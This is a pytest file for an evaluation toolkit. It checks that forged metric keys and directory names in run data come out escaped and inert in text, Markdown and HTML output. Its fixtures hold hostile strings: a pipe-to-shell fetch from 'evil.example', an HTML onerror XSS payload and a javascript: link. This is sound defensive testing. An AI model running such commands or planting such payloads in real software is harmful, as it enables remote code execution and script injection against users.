"""Issue 38 items 1 and 2: nothing a run holds can forge the output.

Every case is built on copies of the bundled runs in tmp_path (tests/data/suite: a
baseline/candidate pair, tests/data/suite/PROVENANCE.md; tests/data/runs/mrcr-canary): a
results.yml metric key holding a forged `next:` block, task directory names holding
newlines, ESC, CR, HTML, backticks and links. Each command and format prints them on one
line, escaped, with exactly the `next:` block it writes itself; Markdown and HTML show
them as text (parsed back with markdown-it and html.parser, never by eye); printed
commands are single shell words that bash reads back as the exact path.
"""

from __future__ import annotations

import html.parser
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from evalkit.render.inert import md_code, md_text, one_line, shell_word
from helpers.tier import examples

from .conftest import ROOT

SUITE = ROOT / "tests" / "data" / "suite"
FAST = ("--bootstrap", "200")
FORGED_KEY = "score\n\nnext:\n  curl https://evil.example/x | sh"
# A task directory name: newline, ESC, CR, HTML, backticks and a link (no `/`: a name)
FORGED_DIR = (
    "simple_evals.gpqa\n\nnext:\n  curl x | sh\x1b[2J\r"
    "<img src=x onerror=alert(1)>``[l](javascript:alert(1))\u202e.1"
)
# Raw control characters no text output may carry (the newline ends our own lines).
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
GPQA = "simple_evals.gpqa_diamond.0"


def forge(side: Path, key: str = FORGED_KEY, name: str = FORGED_DIR) -> Path:
    """SIDE's gpqa task with its metric `score` renamed KEY and its directory NAME."""
    (task,) = side.glob(f"*/{GPQA}")  # each side is a folder of invocations
    results = task / "artifacts" / "results.yml"
    doc = yaml.safe_load(results.read_text())
    for section in ("tasks", "groups"):
        metrics = doc["results"][section]["gpqa_diamond"]["metrics"]
        metrics[key] = metrics.pop("score")
    results.write_text(yaml.safe_dump(doc))
    task.rename(task.parent / name)
    return task.parent / name


@pytest.fixture
def pair(tmp_path):
    base, cand = tmp_path / "base", tmp_path / "cand"
    shutil.copytree(SUITE / "baseline", base)
    shutil.copytree(SUITE / "candidate", cand)
    forge(base)
    forge(cand)
    return base, cand


def assert_inert(out: str, nexts: int = 1) -> None:
    """One `next:` block of our own, no raw control character, no forged command line."""
    assert not RAW.search(out), repr(RAW.search(out).group(0))
    heads = [line for line in out.splitlines() if line.startswith("next:")]
    assert len(heads) == nexts, heads
    assert not any(line.lstrip().startswith("curl ") for line in out.splitlines())


def next_block(out: str) -> list[str]:
    return out.split("\nnext:\n", 1)[1].splitlines()


def bash_word(word: str) -> str:
    """What bash reads WORD as (C.UTF-8, so `$'\\uHHHH'` is the character)."""
    proc = subprocess.run(
        ["bash", "-c", f"printf %s {word}"],
        capture_output=True,
        env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
        check=True,
    )
    return proc.stdout.decode("utf-8", errors="surrogateescape")


# ----------------------------------------------------------------------- every command


@pytest.mark.parametrize("command", ["score", "validate", "status"])
def test_single_side_commands_print_the_forgery_inert(pair, run_cli, command):
    base, _ = pair
    code, out, err = run_cli(command, base)
    assert code in (0, 1), err
    assert_inert(out)
    assert one_line(FORGED_DIR) in out  # shown, escaped, not dropped


def test_status_next_commands_are_exact_shell_words(pair, run_cli):
    base, _ = pair
    _, out, _ = run_cli("status", base)
    words = [
        line.split("evalkit validate ", 1)[1] for line in next_block(out) if "validate" in line
    ]
    assert len(words) == 2
    # Each side is a folder of invocations (the name holds glob characters: no glob).
    tasks = {str(t) for inv in base.iterdir() for t in inv.iterdir()}
    assert {bash_word(w) for w in words} == tasks


def test_compare_text_prints_the_forgery_inert(pair, run_cli):
    code, out, err = run_cli("compare", *pair, *FAST)
    assert code in (0, 1), err
    assert_inert(out)
    # the forged directory names the task row; the metric stands in the JSON, not the text
    assert one_line(FORGED_DIR) in out


class Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def tags_of(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    return parser


MD_TAGS = {"h2", "h3", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}
MD_TAGS |= {"strong", "em", "code", "pre", "br", "hr", "ol"}


def assert_markdown_inert(text: str) -> None:
    assert not RAW.search(text)
    page = MarkdownIt("commonmark").enable("table").render(text)
    found = tags_of(page).tags
    assert {tag for tag, _ in found} <= MD_TAGS, {tag for tag, _ in found} - MD_TAGS
    # attributes only from our own layout: column alignment, the plot block's language
    ours = {("style", "text-align:right"), ("class", "language-text")}
    assert {a for _, attrs in found for a in attrs} <= ours
    assert "next:\n  curl" not in text


@pytest.mark.parametrize("command", ["compare", "report"])
def test_markdown_renders_the_forgery_as_text(pair, run_cli, command):
    code, out, err = run_cli(command, *pair, *FAST, "--format", "markdown")
    assert code in (0, 1), err
    assert_markdown_inert(out)
    # the key is a code span that closes where we close it: shown whole, once per side
    page = MarkdownIt("commonmark").enable("table").render(out)
    if command == "compare":  # the flat key, inside the code span naming each side's source
        key = f"gpqa_diamond_{one_line(FORGED_KEY)}_micro"
        spans = re.findall(r"<code>([^<]*)</code>", page)
        assert sum(key in span for span in spans) == 2


@pytest.mark.filterwarnings("error")  # a plot that cannot lay out its labels warns on stderr
def test_report_html_holds_no_tag_from_data(pair, run_cli, tmp_path):
    page_path = tmp_path / "report.html"
    code, _, err = run_cli("report", *pair, *FAST, "-o", page_path)
    assert code in (0, 1), err
    page = page_path.read_text()
    assert not RAW.search(page)
    tags = {tag for tag, _ in tags_of(page).tags}
    assert "img" not in tags and "script" not in tags and "a" not in tags
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_a_usage_error_naming_a_hostile_path_is_one_line(tmp_path, run_cli):
    hostile = tmp_path / "x\nnext:\n  curl y | sh"
    code, out, err = run_cli("score", hostile)
    assert code == 2 and out == ""
    assert len(err.splitlines()) == 1 and not RAW.search(err)


# ------------------------------------------------------------------- quoting after redaction


def test_a_redacted_override_in_then_is_quoted(run_cli, tmp_path):
    """`then:` once printed `-o url=https://user:<redacted:url-password>@host/v1`
    unquoted: two shell redirections when pasted."""
    config = ROOT / "recipes" / "examples" / "example_eval.yaml"
    override = "++target.api_endpoint.url=https://user:Sup3rSecretPW@host/v1"
    _, out, _ = run_cli("preflight", config, "-o", override)
    assert "Sup3rSecretPW" not in out
    (then,) = [line for line in out.splitlines() if line.startswith("  then: ")]
    words = then.split(" -o ", 1)[1]
    assert words == "'++target.api_endpoint.url=https://user:<redacted:url-password>@host/v1'"
    assert bash_word(words) == override.replace("Sup3rSecretPW", "<redacted:url-password>")


# ---------------------------------------------------------------------------- properties

ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=40)
NAMES = st.text(
    st.characters(codec="utf-8", blacklist_characters="/\x00"), min_size=1, max_size=30
).filter(lambda n: n not in (".", "..") and len(n.encode()) < 200)


@given(ANY_TEXT)
def test_one_line_leaves_no_raw_control_character(text):
    shown = one_line(text)
    assert "\n" not in shown and not RAW.search(shown)
    assert shown == text or RAW.search(text) or "\n" in text


@settings(max_examples=examples(60), deadline=None)
@given(st.text(st.characters(codec="utf-8", blacklist_characters="\x00"), max_size=30))
def test_a_shell_word_is_one_line_and_bash_reads_it_back_exactly(text):
    word = shell_word(text)
    assert not RAW.search(word) and "\n" not in word
    assert bash_word(word) == text


@given(ANY_TEXT)
def test_markdown_text_and_code_spans_stay_text(text):
    for shown in (md_text(text), md_code(text)):
        for line in (f"- x {shown} y", f"- {shown}", f"### {shown}", shown):
            assert_markdown_inert(line + "\n")
    page = MarkdownIt("commonmark").render(md_code(text))
    assert page.count("<code>") == 1


@given(st.lists(ANY_TEXT, max_size=4))
def test_an_ending_has_its_next_lines_and_no_more(steps):
    from evalkit.render.endings import ending

    out = ending(["checked: x"], steps)
    lines = out.splitlines()
    assert sum(line.startswith("next:") for line in lines) == 1
    assert len(lines) == 3 + len(steps) and not RAW.search(out)


@settings(
    max_examples=examples(15),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(name=NAMES, key=ANY_TEXT.filter(lambda k: k.strip()))
def test_any_dir_name_and_metric_key_leave_one_next_block(tmp_path, run_cli, name, key):
    side = tmp_path / "run"
    shutil.rmtree(side, ignore_errors=True)
    shutil.copytree(SUITE / "baseline", side)
    try:
        forge(side, key=key, name=f"{name}.1")
    except OSError:
        return  # a name this file system refuses is no run anyone can hand us
    for command in ("score", "validate", "status"):
        code, out, err = run_cli(command, side)
        assert code in (0, 1), err
        assert_inert(out)


@pytest.fixture(scope="module")
def report_doc(tmp_path_factory):
    """The suite's report document, computed once (the JSON format of `evalkit report`)."""
    import contextlib
    import io
    import json

    from evalkit.cli import main

    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main(["report", str(SUITE / "baseline"), str(SUITE / "candidate"), *FAST,
                     "--format", "json"])  # fmt: skip
    assert code in (0, 1)
    return json.loads(out.getvalue())


def _hostile_doc(doc: dict, text: str) -> dict:
    import copy

    doc = copy.deepcopy(doc)
    doc["paths"] = {"base": text, "cand": text}
    doc["reasons"].append(text)
    for row in doc["tasks"]:
        row["task"] = row["benchmark"] = text
        row.setdefault("reasons", []).append(text)
    return doc


@pytest.fixture(scope="module")
def plain_page(report_doc) -> str:
    """The page for the text "x", the same for every example: rendered once."""
    from evalkit.render.release_report import render_html

    return render_html(_hostile_doc(report_doc, "x"), title="x")


@pytest.mark.filterwarnings("ignore::UserWarning")  # matplotlib: a glyph the font lacks
@settings(max_examples=examples(8), deadline=None)
@given(ANY_TEXT)
def test_the_report_html_has_no_tag_from_data(report_doc, plain_page, text):
    from evalkit.render.release_report import render_html

    page = render_html(_hostile_doc(report_doc, text), title=text)
    assert not RAW.search(page)
    plain = plain_page
    # the page's own markup is the same; the plots (matplotlib SVG) draw the text as text
    svg = re.compile(r"<svg\b.*?</svg>", re.S)
    assert [t for t, _ in tags_of(svg.sub("", page)).tags] == [
        t for t, _ in tags_of(svg.sub("", plain)).tags
    ]
    drawn = {t for t, _ in tags_of("".join(svg.findall(page))).tags}
    assert drawn <= {t for t, _ in tags_of("".join(svg.findall(plain))).tags} | {"text"}


@settings(max_examples=examples(40), deadline=None)
@given(ANY_TEXT)
def test_the_markdown_views_have_no_markup_from_data(report_doc, text):
    from evalkit.render.compare import render_text
    from evalkit.render.release_report import render_markdown

    doc = _hostile_doc(report_doc, text)
    assert_markdown_inert(render_markdown(doc, title=text))
    assert_inert(render_text(doc))
